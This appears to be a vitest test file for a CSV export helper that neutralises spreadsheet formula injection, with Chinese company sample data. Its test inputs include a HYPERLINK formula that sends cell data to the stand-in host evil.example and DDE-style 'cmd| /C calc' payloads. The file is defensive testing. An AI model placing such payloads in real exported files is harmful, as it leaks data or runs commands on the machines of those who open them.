import { describe, expect, it } from 'vitest';
import { csvCell, csvDocument, csvRow, neutraliseFormula } from './csv-safe.ts';

describe('csv-safe', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['=HYPERLINK("http://evil.example/?d="&A1,"查看")', `'=HYPERLINK("http://evil.example/?d="&A1,"查看")`],
    ['+86 518 8888', "'+86 518 8888"],
    ['-2+3+cmd|\' /C calc\'!A0', "'-2+3+cmd|' /C calc'!A0"],
    ['@SUM(1+1)*cmd|\' /C calc\'!A0', "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ['连云港恒瑞化工有限公司', '连云港恒瑞化工有限公司'],
    ['罚款 = 2万元', '罚款 = 2万元'],
    ['a-b', 'a-b'],
    ['', ''],
  ])('%j → %j', (input, out) => {
    expect(neutraliseFormula(input)).toBe(out);
  });

  it('quotes after neutralising; nulls are empty; numbers pass', () => {
    expect(csvCell('=1,2')).toBe(`"'=1,2"`);
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('line\nbreak')).toBe('"line\nbreak"');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(12.5)).toBe('12.5');
    expect(csvCell(-3)).toBe("'-3");
    expect(csvRow(['91320723MA1XYW1236', '=cmd', '王建国'])).toBe("91320723MA1XYW1236,'=cmd,王建国");
    expect(csvRow(['a;b', '@x'], ';')).toBe(`"a;b";'@x`);
  });

  it('a document has a BOM and CRLF line ends', () => {
    expect(csvDocument([['统一社会信用代码', '名称'], ['91320723MA1XYW1236', '+1']])).toBe("\ufeff统一社会信用代码,名称\r\n91320723MA1XYW1236,'+1\r\n");
  });
});
